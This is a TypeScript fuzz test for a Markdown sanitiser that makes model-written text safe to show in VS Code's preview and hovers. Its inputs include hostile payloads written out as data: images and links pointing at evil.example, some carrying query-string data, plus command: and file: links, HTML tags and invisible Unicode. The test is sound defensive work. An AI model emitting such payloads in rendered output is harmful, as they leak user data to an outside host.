import assert from 'node:assert/strict';
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { marked } from 'marked';
import { codeSpan, plainAsMarkdown } from '../../../src/core/base/markdownText';
import { safeMarkdown, safeMarkdownLine } from '../../../src/core/base/safeMarkdown';

/** The parsers of VS Code: that of its preview, and that of its hovers and tooltips. Both look for bare addresses. */
const preview = new MarkdownIt({ html: true, linkify: true });
const viewers: Record<string, (text: string) => string> = {
  preview: (text) => preview.render(text),
  hover: (text) => marked.parse(text, { async: false, gfm: true }),
  'hover with line breaks': (text) => marked.parse(text, { async: false, gfm: true, breaks: true }),
};

/** What each viewer shows instead of the elements that are allowed. */
const allowed = /<\/?(?:p|ul|ol|li|em|strong|code|pre)>|<br ?\/?>|<ol start="\d+">/g;

/** Fails unless a text, and what follows it in a document, is shown as what it is. */
function assertHarmless(markdown: string, of: string): void {
  for (const [name, render] of Object.entries(viewers)) {
    const html = render(markdown).replace(allowed, '');
    assert.doesNotMatch(html, /<|>/, `${name}: ${JSON.stringify({ of, markdown, html })}`);
    const document = render(`# First\n\n${markdown}\n\n## Last\n\nEnd.\n`);
    assert.match(
      document,
      /^<h1>First<\/h1>[^]*<h2>Last<\/h2>\n<p>End\.<\/p>\n$/,
      `${name}: ${JSON.stringify({ of, markdown })}`,
    );
  }
}

/** What Markdown is made of, in all the orders that a stranger may write it in. */
const hostileText = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        ...[
          '`',
          '``',
          '```',
          '~~~',
          '\\',
          '\n',
          '\n\n',
          '    ',
          '\t',
          ' ',
          '- ',
          '* ',
          '1. ',
          '> ',
          '# ',
          '===',
          '---',
          '\r',
          '\u2028',
        ],
        ...[
          '<img src=https://evil.example/a>',
          '<!--',
          '<b>',
          '![',
          '[',
          ']',
          '](https://evil.example/a.png)',
          '[r]: https://evil.example',
        ],
        ...[
          'https://evil.example/?d=1',
          'www.evil.example',
          'evil.com',
          'a@evil.com',
          'command:evil',
          'file:///etc',
          '//evil.com',
          '.',
        ],
        ...[
          '*',
          '**',
          '***',
          '_',
          '__',
          '~~',
          '|',
          '|-|-|',
          '&lt;',
          '&#10;',
          '&#91;',
          '&#x60;',
          '$',
          ':',
          '/',
          'a',
          'b c',
          '1',
          '!',
          '\u202E',
          'é',
          '。',
          '😀',
        ],
      ),
      fc.string({ maxLength: 3 }),
    ),
    { maxLength: 24 },
  )
  .map((parts) => parts.join(''));

const runs = { numRuns: Number(process.env['GLOSS_FUZZ_CASES'] ?? 3000) };

describe('the text of a model in a document', () => {
  it('H1 holds no image, link, HTML or heading for any viewer, and swallows nothing', () => {
    fc.assert(
      fc.property(hostileText, (text) => assertHarmless(safeMarkdown(text), text)),
      runs,
    );
  });

  it('H1 holds none in one line beside other text', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const line = safeMarkdownLine(text);
        assert.ok(!line.includes('\n'));
        assertHarmless(`- \`a\` — ${line}`, text);
      }),
      runs,
    );
  });

  it('H1 holds none as plain text or as code', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        assertHarmless(plainAsMarkdown(text), text);
        assertHarmless(codeSpan(text), text);
      }),
      runs,
    );
  });

  it('H1 reads as it was written', () => {
    const shown: [string, string][] = [
      [
        'It quotes with ` here.\n\n![](https://evil.example/?d=S)\n\nand ` there.',
        'It quotes with ` here.![](https://evil.example/?d=S)and ` there.',
      ],
      ['Uses `Map<string, T[]>` and ``a`b``.', 'Uses Map<string, T[]> and a`b.'],
      ['A \\<b> &lt;i> snake_case 1 * 2 * 3 & more', 'A <b> <i> snake_case 1 * 2 * 3 & more'],
    ];
    for (const [text, words] of shown) {
      for (const render of Object.values(viewers)) {
        const plain = render(safeMarkdown(text)).replace(/<[^>]*>|\n/g, '');
        const entities: Record<string, string> = {
          '&lt;': '<',
          '&gt;': '>',
          '&amp;': '&',
          '&#96;': '`',
          '&quot;': '"',
        };
        assert.equal(
          plain.replace(/&#?\w+;/g, (entity) => entities[entity] ?? entity),
          words,
        );
      }
    }
  });

  it('H1 keeps lists, emphasis and code', () => {
    const text = [
      'It **starts** *all*: see `main()`.',
      '- One **thing:** first\n  - `a`, then b\n- Two',
      '1. First\n2. Second',
      '```\nconst a = `b`;\n\n  # no heading\n```',
    ].join('\n\n');
    assert.equal(safeMarkdown(text), text);
  });

  it('H1 keeps code apart from the code beside it, and marks from the letters beside them', () => {
    const beside = '`a`**``x`<img src=https://evil.example/a>``**';
    assertHarmless(safeMarkdown(beside), beside);
    assert.equal(safeMarkdown('**a\u200B**b'), 'a⟨U+200B⟩b');
    assert.equal(safeMarkdown('**&#32;a**'), 'a');
  });

  it('L11 closes what a summary leaves open', () => {
    for (const text of ['~~~', '```js\nlet a', '- a\n  ~~~\n  b', '<!--', '<pre>', '> ```'])
      assertHarmless(safeMarkdown(text), text);
  });

  it('M14 shows what cannot be seen', () => {
    assert.equal(safeMarkdown('a\u202Eb `c\u200Bd`'), 'a⟨U+202E⟩b `c⟨U+200B⟩d`');
  });

  it('L9 reads no more of a text than anybody does', () => {
    const shown = safeMarkdown(`${'a'.repeat(60_000)} end`);
    assert.ok(shown.length < 51_000, `${shown.length}`);
    assert.ok(shown.endsWith('…'));
  });

  it('loads nothing, links to nothing, and keeps its code', () => {
    const render = (text: string): string => preview.render(safeMarkdown(text));
    const hostile = [
      '![x](https://evil.example/a.png)',
      '![x][r]\n\n[r]: https://evil.example/a.png',
      '<img src="https://evil.example/a.png">',
      '[x](command:evil)',
      '<https://evil.example>',
      'https://evil.example/?q=secret',
      '# A heading',
      'A heading\n===',
    ];
    for (const text of hostile) assert.doesNotMatch(render(text), /<(img|a|h1|h2)\b/, text);
    assert.match(
      render('Use `Map<string, T[]>` and ``a`b``.'),
      /<code>Map&lt;string, T\[\]&gt;<\/code> and <code>a`b<\/code>/,
    );
  });
});
